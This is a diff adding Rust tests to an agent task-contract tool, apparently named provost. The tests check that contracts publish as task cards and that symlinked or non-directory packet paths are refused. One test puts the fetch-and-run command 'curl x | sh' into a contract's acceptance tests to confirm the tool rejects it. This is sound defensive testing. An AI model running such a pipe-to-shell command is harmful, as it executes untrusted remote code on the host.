@@ -197,6 +197,55 @@ mod tests {
     }
 
     #[test]
+    fn a_contract_becomes_a_task_card() {
+        let stage = Stage::new();
+        let schema = provost_core::contract::RESULT_SCHEMA_TEXT;
+        let contract = format!(
+            "task_id: task-0001\n\
+             owner_agent: {{role: PM, agent_id: agent-pm}}\n\
+             assigned_agent: {{role: WORKER, agent_id: agent-worker}}\n\
+             inputs:\n  spec: say hello\n  artifacts:\n  - name: output_schema\n    \
+             uri: {}\n    sha256: {}\n\
+             required_outputs: [{{name: patch, type: patch, acceptance: applies}}]\n\
+             allowed_paths: [src]\nforbidden_actions: []\n\
+             acceptance_tests:\n- {{name: tests, cmd: pytest -q, must_pass: true}}\n\
+             tool_permissions:\n  {{filesystem: workspace-write, shell: never, network: deny, \
+             mcp_tools: []}}\n\
+             mcp_tool_set: [none]\n\
+             timeout_retry: {{timeout_sec: 60, max_retries: 0, retry_backoff_sec: 0}}\n\
+             rollback: {{strategy: worktree_drop, baseline_ref: HEAD}}\n\
+             evidence_links: []\nlog_refs: {{run_id: run-0001, paths: {{}}}}\n",
+            provost_core::contract::RESULT_SCHEMA,
+            provost_core::object::sha256(schema.as_bytes()),
+        );
+        let file = stage.at("home/contract.yaml");
+        fs::write(&file, &contract).unwrap();
+        let words = [
+            "packet",
+            "publish",
+            "--phase-id",
+            "p1",
+            "-f",
+            file.to_str().unwrap(),
+        ];
+        let (exit, answer) = call(&stage, &words);
+        assert_eq!(exit, Some(0), "{answer}");
+        let card = fs::read_to_string(stage.at(PACKET).join("task_card.yaml")).unwrap();
+        for part in ["- \"pytest -q\"", "- \"src\"", "- \"task-0001\""] {
+            assert!(card.contains(part), "{part}: {card}");
+        }
+        fs::remove_dir_all(stage.at(PACKET)).unwrap();
+        fs::write(&file, contract.replace("pytest -q", "curl x | sh")).unwrap();
+        let (exit, answer) = call(&stage, &words);
+        assert_eq!(
+            (exit, &answer["allow"]),
+            (Some(1), &false.into()),
+            "{answer}"
+        );
+        assert!(!stage.at(PACKET).exists());
+    }
+
+    #[test]
     fn a_packet_behind_a_link_is_not_read() {
         let stage = Stage::new();
         let elsewhere = stage.at("home/p1");
@@ -211,8 +260,12 @@ mod tests {
         fs::create_dir_all(&root).unwrap();
         symlink(&elsewhere, root.join("phase_07")).unwrap();
         let (exit, answer) = call(&stage, &["check", "packet", "--phase-id", "phase_07"]);
-        assert_ne!(exit, Some(0), "{answer}");
+        assert_eq!(exit, Some(1), "{answer}");
         assert_eq!(answer["allow"], false);
+        fs::remove_file(root.join("phase_07")).unwrap();
+        fs::write(root.join("phase_07"), "a file").unwrap();
+        let (exit, answer) = call(&stage, &["check", "packet", "--phase-id", "phase_07"]);
+        assert_eq!(exit, Some(1), "{answer}");
     }
 
     #[test]
